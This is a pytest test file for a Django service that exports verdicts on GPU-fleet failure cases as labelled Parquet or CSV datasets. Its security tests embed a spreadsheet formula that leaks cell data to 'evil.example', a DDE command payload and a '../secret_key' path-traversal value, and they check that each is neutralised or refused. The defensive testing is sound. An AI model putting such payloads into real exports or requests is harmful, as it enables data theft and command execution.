"""Dataset exports end to end: the team's verdicts on cases of the known fleet become a Parquet
(or CSV) file of labelled windows with one feature column per metric, written by a real Celery
worker thread, downloadable from the job page and the API (session or personal token). Bad
requests: nothing to export, unknown verdict kinds or formats, viewers starting exports — 400/403,
and no file is written."""
from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import numpy as np
import pyarrow.parquet as pq
import pytest
from django.test import Client

from investigations import tokens
from investigations.models import BackgroundJob
from investigations.services import exports, hypotheses, jobs, verdicts
from tests.telemetry.queries import BASE
from tests.telemetry.queries.test_fleet_test import FAILURES

from .factories import client_for, known_fleet_fixture, make_case
from .test_fleet_tests import SIGNAL
from .test_jobs import wait_for, worker  # noqa: F401  (the real Celery worker fixture)

pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]

CLUSTER = "exports"
known_fleet = known_fleet_fixture(CLUSTER, seed=17)


@pytest.fixture
def labelled(known_fleet, investigator):
    """Cases on four of the six failures, with verdicts; one is a false positive."""
    made = []
    for i, (host, hours) in enumerate(FAILURES[:4]):
        case = make_case(cluster=CLUSTER, job_id=str(500 + i), job_name=f"train-{500 + i}", state="NODE_FAIL",
                         t0=BASE + timedelta(hours=hours), hosts=[host], n_hosts=1)
        made.append(case)
    h = hypotheses.pin_hypothesis(investigator, case=made[0], **SIGNAL)
    for case in made[:3]:
        if case is not made[0]:
            hypotheses.link_hypothesis(investigator, h, case)
        verdicts.record_verdict(investigator, case, kind="confirmed", hypothesis=h, rationale="replays ramped")
    verdicts.record_verdict(investigator, made[3], kind="false_positive", rationale="replays were a red herring")
    return made, h


def test_an_export_from_the_page_writes_labelled_windows_with_features(labelled, worker, investigator, viewer):
    made, h = labelled
    c = client_for(investigator)
    page = c.get("/exports/").content.decode()
    assert 'id="export-form"' in page and "4 cases have a verdict" in page
    resp = c.post("/exports/new", {"kinds": ["confirmed", "false_positive", "inconclusive"], "lead_h": "6",
                                   "controls": "1", "format": "parquet"})
    job = BackgroundJob.objects.get(kind="dataset_export")
    assert resp.status_code == 302 and resp["Location"] == f"/jobs/{job.pk}/"
    done = wait_for(job.pk, timeout=120)
    assert done.state == "succeeded", done.error
    r = done.result
    assert r["format"] == "precursor-dataset/1" and r["cases"] == 4 and r["positives"] == 4
    assert r["controls"] >= 8 and r["labels"] == {"confirmed": 3, "false_positive": 1, "inconclusive": 0}

    html = c.get(f"/jobs/{job.pk}/").content.decode()
    assert 'id="export-download"' in html and "4 windows before interruptions" in html
    # Viewers read and download; the file is the one the result describes.
    download = client_for(viewer).get(f"/jobs/{job.pk}/download")
    assert download.status_code == 200 and download["Content-Type"] == "application/vnd.apache.parquet"
    body = b"".join(download.streaming_content)
    assert len(body) == r["bytes"]
    table = pq.read_table(io.BytesIO(body))
    manifest = json.loads(table.schema.metadata[b"precursor"])
    assert manifest["rows"] == table.num_rows == r["rows"] and manifest["params"]["lead_window_s"] == 21600
    rows = table.to_pylist()
    before = [row for row in rows if row["interrupted"] == 1]
    controls = [row for row in rows if row["interrupted"] == 0]
    assert {row["case_id"] for row in before} == {c.pk for c in made}
    assert {row["verdict"] for row in before} == {"confirmed", "false_positive"}
    assert all(row["hypothesis_metric"] == "gpu.pcie.replay" for row in before if row["verdict"] == "confirmed")
    assert all(row["verdict"] is None and row["window"] in ("same_hosts", "peers") for row in controls)
    assert {row["group"] for row in controls} <= {row["group"] for row in before}
    assert len({row["example_id"] for row in rows}) == len(rows)
    # The feature tells them apart: replays ramp (~0.5/s) before every failure, never in controls.
    assert min(row["f:gpu.pcie.replay"] for row in before) > 0.4
    assert max(row["f:gpu.pcie.replay"] for row in controls) < 0.1
    assert set(manifest["features"]) == {"f:gpu.pcie.replay", "f:cooling.inlet_temp"}


def test_csv_without_controls_through_the_api_with_a_personal_token(labelled, worker, investigator):
    _, plaintext = tokens.create_token("trainer", investigator, scope="api")
    c = Client(HTTP_AUTHORIZATION=f"Bearer {plaintext}")
    r = c.post("/api/exports", json.dumps({"kinds": ["confirmed"], "controls": False, "format": "csv",
                                           "lead_window_s": 3600}), content_type="application/json")
    assert r.status_code == 201, r.content
    job_id = r.json()["id"]
    assert wait_for(job_id, timeout=120).state == "succeeded"
    got = c.get(f"/api/exports/{job_id}/file")
    assert got.status_code == 200 and got["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(io.StringIO(b"".join(got.streaming_content).decode())))
    assert len(rows) == 3 and {row["interrupted"] for row in rows} == {"1"}
    assert {row["verdict"] for row in rows} == {"confirmed"}
    assert all(float(row["f:gpu.pcie.replay"]) > 0.4 for row in rows)
    assert all(row["f:cooling.inlet_temp"] not in ("", "nan") for row in rows)  # reported: a number
    assert all(np.isfinite(float(row["f:cooling.inlet_temp"])) for row in rows)
    manifest = json.loads((exports.exports_dir() / f"precursor-dataset-{job_id}.manifest.json").read_text())
    assert manifest["rows"] == 3 and manifest["params"]["controls"] is False


def test_what_an_export_refuses(known_fleet, investigator, viewer):
    c = client_for(investigator)
    r = c.post("/api/exports", "{}", content_type="application/json")
    assert r.status_code == 400 and "record verdicts first" in r.json()["detail"]
    for body, reason in [({"kinds": ["maybe"]}, "kinds"), ({"format": "xlsx"}, "format"),
                         ({"lead_window_s": 10}, "lead_window_s")]:
        bad = c.post("/api/exports", json.dumps(body), content_type="application/json")
        assert bad.status_code == 400 and reason in bad.json()["detail"], body
    assert client_for(viewer).post("/api/exports", "{}", content_type="application/json").status_code == 403
    assert client_for(viewer).post("/exports/new", {"lead_h": "6"}).status_code == 403
    assert not BackgroundJob.objects.exists()
    # Not an export, or not finished: no file.
    other = BackgroundJob.objects.create(kind="store_summary", state="succeeded", result={"file": "../secret_key"})
    assert c.get(f"/jobs/{other.pk}/download").status_code == 404
    assert c.get(f"/api/exports/{other.pk}/file").status_code == 404
    sneaky = BackgroundJob.objects.create(kind="dataset_export", state="succeeded", result={"file": "../secret_key"})
    assert c.get(f"/jobs/{sneaky.pk}/download").status_code == 404  # names outside exports/ never resolve


def test_cases_of_a_cluster_without_telemetry_are_counted_not_hidden(labelled, investigator):
    ghost = make_case(cluster="no-such-telemetry", job_id="1", state="FAILED", hosts=["g1"], n_hosts=1)
    verdicts.record_verdict(investigator, ghost, kind="inconclusive", rationale="nothing recorded")
    job = exports.start_export(investigator, controls=False)
    assert jobs.run(job.pk) == "succeeded"
    job.refresh_from_db()
    assert job.result["cases"] == 4 and job.result["cases_without_telemetry"] == 1 and job.result["rows"] == 4
    assert "1 case left out: no telemetry of its cluster" in client_for(investigator).get(
        f"/jobs/{job.pk}/progress").content.decode()


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(labelled, worker, investigator):
    made, h = labelled
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    verdicts.record_verdict(investigator, made[0], kind="confirmed", hypothesis=h, rationale="see root cause",
                            root_cause=formula)
    verdicts.record_verdict(investigator, made[1], kind="confirmed", hypothesis=h, rationale="see root cause",
                            root_cause="@SUM(1+1)*cmd|' /C calc'!A0")
    job = exports.start_export(investigator, kinds=["confirmed"], controls=False, fmt="csv", lead_window_s=3600)
    assert wait_for(job.pk, timeout=120).state == "succeeded"
    text = exports.export_file(BackgroundJob.objects.get(pk=job.pk)).read_text()
    rows = {row["case_id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows[str(made[0].pk)]["root_cause"] == "'" + formula
    assert rows[str(made[1].pk)]["root_cause"].startswith("'@SUM")
    for row in rows.values():
        assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values()), row
        assert float(row["f:gpu.pcie.replay"]) > 0.4  # numbers stay numbers


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("gpu-a001", "gpu-a001"), ("", ""), (-1.5, -1.5), (3, 3),
])
def test_spreadsheet_safe(value, shown):
    assert exports.spreadsheet_safe(value) == shown
